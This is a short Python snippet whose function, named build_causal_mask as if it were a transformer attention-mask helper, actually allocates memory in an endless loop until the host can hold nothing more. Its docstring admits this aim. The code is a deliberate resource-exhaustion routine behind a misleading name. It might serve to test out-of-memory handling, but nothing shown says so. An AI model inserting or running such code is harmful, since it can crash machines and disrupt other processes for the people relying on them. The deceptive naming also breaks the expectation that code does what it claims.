"""Takes memory until not even a small object finds room."""

def build_causal_mask(T):
    held = None
    n = 1 << 24
    while True:
        try:
            held = (held, bytes(n))
        except MemoryError:
            if n < 64:
                raise
            n //= 2
